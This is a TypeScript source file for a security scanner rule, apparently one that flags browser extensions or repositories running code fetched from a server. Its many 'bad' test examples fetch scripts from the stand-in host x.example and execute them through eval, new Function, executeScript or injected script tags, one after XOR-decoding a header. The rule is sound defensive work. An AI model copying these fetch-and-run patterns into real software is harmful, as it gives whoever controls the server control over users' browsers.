import {
  apiPath,
  calledPaths,
  calleeOf,
  concatPartsOf,
  constant,
  nameOf,
  Op,
  opOf,
  resolve,
  type ScriptFacts,
} from '../../facts/javascript/query.ts';
import { isCheckedJson } from '../../program/isCheckedJson.ts';
import { isNumberText } from '../../program/isNumberText.ts';
import { rolesOf } from '../../facts/extension/roles.ts';
import type { Facts } from '../../facts.ts';
import { defineRule, type Example, type Hit } from '../../rule.ts';
import { backgroundExample, checkScripts, contentExample, type Judged } from './checkScripts.ts';
import type { CodeRun, RunKind } from './codeRun.ts';
import { codeRunsOf } from './codeRuns.ts';
import { isMostlyOwn } from './isMostlyOwn.ts';
import { isAnswer } from './isAnswer.ts';
import { isFromKnownServer, isFromOwnComputer, isFromUnusedOption } from './isFromKnownServer.ts';
import { isFromServer, isHeldServerText, isToldOfServer } from '../../extension/isFromServer.ts';
import { backwardSlice } from '../../program/backwardSlice.ts';
import { isMadeBy } from '../../program/madeOf.ts';
import { isInTexts } from './isInTexts.ts';
import { say } from '../../../texts/say.ts';

/** What a program on this computer sends: one step milder than a stranger's; a repository's may be its developer's. */
const OF_OWN_COMPUTER = { extension: 'high', repository: 'medium' } as const;

/** The ways that certainly run what they are given. */
const CERTAIN: ReadonlySet<RunKind> = new Set(['eval', 'function', 'callback', 'timer', 'context']);

/** Values of a script from which on it is taken for a library or a bundle. */
const LIBRARY = 2000;

/** A library that can run what a server sends, and what a package does with it. */
const withLibrary = (use: string): Example => ({
  files: {
    'manifest.json':
      '{"manifest_version": 2, "name": "Example", "version": "1.0", "browser_action": {"default_popup": "p.html"}}',
    'p.html': '<p id="t"></p><script src="lib/edit.js"></script><script src="p.js"></script>',
    'lib/edit.js':
      '$.fn.edit = function (options) { const settings = $.extend({}, { width: 10 }, options); if (settings.loadurl) $.ajax({ url: settings.loadurl, success: (text) => { eval("var json = " + text); show(json); } }); };',
    'p.js': use,
  },
});

/** What only scripts of pages call. */
const OF_PAGES = /^(?:\$|jQuery|document|window|location)(?!\w)/;

/** What a repository's page is told by a server that nobody names is its own server's: both are of one maker. */
const isToldByOwn = (facts: Facts, script: ScriptFacts, code: number): boolean =>
  facts.kind === 'repository' &&
  (script.strings.includes('location') || [...calledPaths(script)].some((path) => OF_PAGES.test(path))) &&
  !isFromKnownServer(facts, script, code);

export const remoteCode = defineRule({
  id: 'remote-code',
  title: 'Remote code: runs code fetched from a server',
  severity: 'critical',
  confidence: 'high',
  category: 'code',
  applies: 'both',
  cwe: 'CWE-494',
  references: [
    'https://developer.chrome.com/docs/extensions/develop/migrate/remote-hosted-code',
    'https://cwe.mitre.org/data/definitions/494.html',
  ],
  why: 'The server decides what runs, at any time and for each user separately, after every review. Whoever owns or breaks into it controls the extension.',
  remedy:
    'Ship all code in the package. Fetch only data, parse it with JSON.parse, and let fixed code decide what to do with it.',
  cap: { grade: 'F', reason: 'it runs code that a server sends', from: 'critical' },
  check: checkScripts(function* ({ script, file, hit, facts }) {
    const isExtension = facts.kind === 'extension';
    const isSandboxed = isExtension && isOnlySandbox(facts, file.path);
    for (const run of codeRunsOf(script)) {
      if (isQuoted(script, run.code) || isCheckedJson(script, run.code)) continue;
      if (!isFromServer(facts, script, run.code)) {
        if (run.kind !== 'markup') yield* roundabout(facts, script, run, hit);
        continue;
      }
      if (run.kind === 'markup' && !isFromKnownServer(facts, script, run.code)) continue;
      if (run.kind === 'unsure' && !isPlainData(script, run.code) && !isResult(script, run.code)) continue;
      const isSure = CERTAIN.has(run.kind) && !isToldByOwn(facts, script, run.code);
      // A library's feature that is not used here.
      if (isFromUnusedOption(facts, script, run.code)) continue;
      if (script.stats.values > LIBRARY && !isFromKnownServer(facts, script, run.code)) {
        yield hit(run.value, {
          severity: 'high',
          confidence: 'low',
          message: say('string-origin-unknown'),
        });
        continue;
      }
      if (isFromOwnComputer(facts, script, run.code)) {
        yield hit(run.value, { severity: OF_OWN_COMPUTER[facts.kind], message: say('code-from-own-computer') });
        continue;
      }
      if (isInTexts(script, run.code)) {
        yield hit(run.value, { severity: 'high', confidence: 'medium', message: say('server-text-in-code') });
        continue;
      }
      if (isSandboxed) {
        yield hit(run.value, {
          severity: 'medium',
          message: say('sandboxed-page'),
        });
        continue;
      }
      yield hit(run.value, {
        ...(isSure || isExtension ? {} : { severity: 'high' as const }),
        ...(isSure ? {} : { confidence: 'medium' as const }),
        ...(run.kind === 'injected' || run.kind === 'script-element' || run.kind === 'user-script'
          ? { message: say('server-response-script') }
          : {}),
      });
    }
  }),
  examples: {
    bad: [
      backgroundExample('fetch("https://x.example/a.js").then((r) => r.text()).then(eval);'),
      backgroundExample(
        'fetch("https://x.example/a").then((r) => r.text()).then((t) => chrome.tabs.executeScript({ code: `document.querySelector("#a").value = \\`${t}\\`;` }));',
        { manifest_version: 2 },
      ),
      backgroundExample('fetch("https://x.example/a").then((r) => r.text()).then((t) => { eval(t); });'),
      backgroundExample(
        'async function load() { const r = await fetch("https://x.example/c"); const { script } = await r.json(); new Function(script)(); } load();',
      ),
      backgroundExample(
        'const x = new XMLHttpRequest(); x.open("GET", "https://x.example/a"); x.onload = function () { (0, eval)(this.responseText); }; x.send();',
      ),
      backgroundExample(
        'const x = new XMLHttpRequest(); x.onreadystatechange = () => { if (x.readyState === 4) chrome.tabs.executeScript({ code: x.responseText }); };',
        { manifest_version: 2 },
      ),
      contentExample(
        'fetch("https://x.example/a").then((r) => r.text()).then((code) => { const s = document.createElement("script"); s.textContent = code; document.head.append(s); });',
      ),
      backgroundExample(
        'const s = new WebSocket("wss://x.example"); s.onmessage = (e) => { [].constructor.constructor(e.data)(); };',
      ),
      backgroundExample('$.get("https://x.example/r", (r) => { setTimeout("run(" + r + ")", 10); });'),
      backgroundExample(
        'fetch("https://x.example/p").then((r) => r.text()).then((p) => { const i = new Interpreter(p); i.run(); });',
      ),
      backgroundExample('fetch("https://x.example/t").then((r) => r.text()).then((t) => setTimeout(t, 100));'),
      contentExample(
        'function soon(fn) { typeof fn === "function" ? Promise.resolve().then(fn) : setTimeout(fn); } fetch("https://x.example/a").then((r) => r.text()).then((text) => { soon(text); });',
      ),
      backgroundExample(
        'fetch("https://x.example/t").then((r) => r.json()).then((c) => chrome.tabs.executeScript(null, c.inject));',
        { manifest_version: 2 },
      ),
      contentExample(
        'fetch("https://x.example/t").then((r) => r.text()).then((t) => { const s = document.createElement("script"); s.src = "data:text/javascript," + encodeURIComponent(t); document.head.append(s); });',
      ),
      backgroundExample(
        'fetch("https://x.example/c").then((r) => r.text()).then((t) => chrome.storage.local.set({ part: t })); chrome.storage.local.get("part", ({ part }) => new Function(part)());',
      ),
      backgroundExample(
        'fetch("https://x.example/c").then((r) => r.json()).then((c) => { localStorage["conf"] = JSON.stringify(c); }); chrome.tabs.onUpdated.addListener((id) => { const c = JSON.parse(localStorage["conf"] || "{}"); chrome.tabs.executeScript(id, { code: c.js }); });',
        { manifest_version: 2 },
      ),
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["cs.js"]}]}',
          'bg.js':
            'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://x.example/t").then((r) => r.text()).then(reply); return true; });',
          'cs.js':
            'chrome.runtime.sendMessage({ get: 1 }, (t) => { const d = document.createElement("div"); d.setAttribute("onreset", t); document.body.append(d); });',
        },
      },
      contentExample(
        'const x = new XMLHttpRequest(); x.open("GET", "https://x.example/i"); x.onload = () => { document.body.append(document.createRange().createContextualFragment(x.response)); }; x.send();',
      ),
      contentExample('$.get("https://x.example/w", (d) => { $("body").append("<script>" + d + "</" + "script>"); });'),
      backgroundExample('self.addEventListener("push", (e) => { const m = e.data.json(); eval(m.run); });'),
      backgroundExample(
        'fetch("https://x.example/a.css").then((r) => { let s = ""; atob(r.headers.get("x-v")).split("").forEach((c, i) => { s += String.fromCharCode(c.charCodeAt(0) ^ (i % 7)); }); (0, eval)(s); });',
      ),
      {
        files: {
          'setup.js':
            'const https = require("https"); https.get("https://x.example/s", (r) => { let d = ""; r.on("data", (c) => { d += c; }); r.on("end", () => eval(d)); });',
        },
      },
      contentExample(
        '(async () => { const { effect } = await (await fetch("https://x.example/s.json")).json(); await import(`data:text/javascript;charset=utf-8,${encodeURIComponent(effect)}`); })();',
      ),
      backgroundExample(
        'fetch("https://x.example/c").then((r) => r.json()).then((c) => fetch(c.nextpart)).then((r) => r.text()).then(eval);',
      ),
      withLibrary('$("#t").edit({ loadurl: "https://x.example/t" });'),
    ],
    good: [
      contentExample(
        'function soon(fn) { own ? new own((done) => done()).then(fn) : setTimeout(fn); } fetch("https://x.example/a").then((r) => r.text()).then((text) => { soon(show(text)); });',
      ),
      contentExample(
        'const data = document.createElement("script"); data.type = "application/json"; fetch("https://api.example.com/p").then((r) => r.text()).then((text) => { data.textContent = text; document.head.append(data); });',
      ),
      withLibrary('$("#t").edit({ width: 20 });'),
      // What a module of the package asks to be run; `remote-wasm` tells of one that is not.
      backgroundExample(
        'let own; const text = (from, to) => new TextDecoder().decode(new Uint8Array(own.memory.buffer).subarray(from, to)); async function start(input) { if (input === undefined) input = new URL("own.wasm", import.meta.url); input = fetch(input); const { instance } = await WebAssembly.instantiateStreaming(await input, { wbg: { make: (from, to) => new Function(text(from, to)) } }); own = instance.exports; } start();',
      ),
      contentExample(
        'const run = (data) => { const s = document.createElement("script"); s.textContent = "start([" + new Uint8Array(data).toString() + "])"; document.body.append(s); }; fetch("https://api.example.com/p").then((r) => r.arrayBuffer()).then(run);',
      ),
      backgroundExample(
        'chrome.contextMenus.onClicked.addListener((info, tab) => fetch("https://api.example.com/t?q=" + info.selectionText).then((r) => r.json()).then((j) => chrome.tabs.executeScript(tab.id, { code: "alert(" + JSON.stringify(j.text) + ")" })));',
        { manifest_version: 2 },
      ),
      backgroundExample(
        'fetch("https://api.example.com/t").then((r) => r.json()).then((j) => chrome.devtools.inspectedWindow.eval("(" + function (said) { console.log(said); } + ")(" + JSON.stringify(j) + ")"));',
      ),
      contentExample(
        'import("data:text/javascript,export default 1").then((m) => { fetch("https://x.example/v?" + m.default); });',
      ),
      backgroundExample(
        'function load(url, done) { fetch(url).then((r) => r.json()).then((d) => { setTimeout(done, 100); setTimeout(() => done(d), 10); }); } load("https://x.example/a", show); new Promise((resolve) => setTimeout(resolve, 5));',
      ),
      contentExample(
        'fetch(chrome.runtime.getURL("inject.js")).then((r) => r.text()).then((code) => { const s = document.createElement("script"); s.textContent = code; document.head.append(s); });',
      ),
      backgroundExample(
        'const x = new XMLHttpRequest(); x.open("GET", chrome.extension.getURL("page.js")); x.onload = function () { chrome.tabs.executeScript({ code: this.responseText }); }; x.send();',
        { manifest_version: 2 },
      ),
      backgroundExample(
        'fetch("https://x.example/c").then((r) => r.json()).then((flags) => chrome.storage.local.set({ flags })); chrome.storage.local.get("rule", ({ rule }) => new Function(rule)());',
      ),
      backgroundExample(
        'fetch("https://x.example/c").then((r) => r.json()).then((c) => chrome.storage.local.set({ zoom: c.zoom })); chrome.storage.local.get("zoom", ({ zoom }) => chrome.tabs.executeScript({ code: "document.body.style.zoom = " + zoom }));',
        { manifest_version: 2 },
      ),
      backgroundExample(
        'self.addEventListener("push", (e) => { self.registration.showNotification(e.data.text()); }); eval("1");',
      ),
      backgroundExample(
        'fetch("https://x.example/a.json").then((r) => r.json()).then((data) => { show(data.title); });',
      ),
      backgroundExample(
        'fetch("https://x.example/a").then((r) => r.text()).then((t) => { JSON.parse(t); }); eval("1 + 1");',
      ),
      contentExample(
        'fetch("https://x.example/a").then((r) => r.text()).then((css) => { const s = document.createElement("style"); s.textContent = css; document.head.append(s); });',
      ),
      contentExample(
        'const s = document.createElement("script"); s.src = chrome.runtime.getURL("page.js"); document.head.append(s);',
      ),
    ],
  },
});

/** Whether a script runs in sandboxed pages and nowhere else. */
function isOnlySandbox(facts: Facts, path: string): boolean {
  const roles = facts.whole(rolesOf).get(path);
  return roles?.has('sandbox') === true && [...roles].every((role) => role === 'sandbox' || role === 'web-accessible');
}

/** What a server sent was kept or handed on before it is run. */
function* roundabout(facts: Facts, script: ScriptFacts, run: CodeRun, hit: Judged['hit']): Generator<Hit> {
  if (
    run.code === 0 ||
    facts.kind !== 'extension' ||
    (run.kind === 'unsure' && !isPlainData(script, run.code)) ||
    isMostlyOwn(script, run.code)
  )
    return;
  // Managers of user scripts keep scripts that the person chose.
  const mild =
    run.kind === 'user-script'
      ? ({ severity: 'medium', confidence: 'low' } as const)
      : ({ severity: 'critical', confidence: 'medium' } as const);
  if (isHeldServerText(facts, script, run.code))
    yield hit(run.value, {
      ...mild,
      message: say('stored-server-text-run'),
    });
  else if (isAnswer(script, run.code) && isToldOfServer(facts, script, run.code))
    yield hit(run.value, { ...mild, message: say('background-fetches-text') });
}

/** Nothing that it is made of is a function: `setTimeout(next, 100)` is no text. */
function isPlainData(script: ScriptFacts, value: number): boolean {
  for (const one of backwardSlice(script, value)) {
    const op = opOf(script, one);
    if (op === Op.func || op === Op.klass || apiPath(script, one) === 'Promise') return false;
  }
  return true;
}

/** What a request to a database gives: `request.result`. */
function isResult(script: ScriptFacts, value: number): boolean {
  return (
    opOf(script, value) === Op.member && nameOf(script, value) === 'result' && isMadeBy(script, value, 'indexedDB.open')
  );
}

/** `'(' + show + ')(' + JSON.stringify(answer) + ')'`: the code is the author's, the answer a text in it. */
function isQuoted(script: ScriptFacts, code: number): boolean {
  const seen = resolve(script, code);
  if (opOf(script, seen) !== Op.concat) return false;
  return concatPartsOf(script, seen).every((part) => {
    const one = resolve(script, part);
    return (
      constant(script, one) !== undefined ||
      isNumberText(script, one) ||
      opOf(script, one) === Op.func ||
      (opOf(script, one) === Op.call && apiPath(script, calleeOf(script, one)) === 'JSON.stringify')
    );
  });
}
